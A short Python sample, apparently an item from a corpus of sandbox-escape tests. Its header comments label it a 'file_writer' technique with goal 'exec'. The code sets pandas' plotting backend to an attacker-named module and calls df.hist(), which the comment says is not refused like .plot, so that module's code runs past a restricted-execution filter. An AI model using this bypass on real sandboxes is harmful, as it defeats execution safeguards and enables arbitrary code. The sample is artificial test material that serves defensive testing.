# class: file_writer
# technique: df.hist() (not refused like .plot) calls the plotting backend chosen through the options value: the attacker's module's plot() runs
# goal: exec
import numpy as np
import pandas as pd

opts = pd.options
opts.plotting.backend = "anyplot_escape_backend"
frame = pd.DataFrame({"x": np.arange(3)})
frame.hist()
df = frame
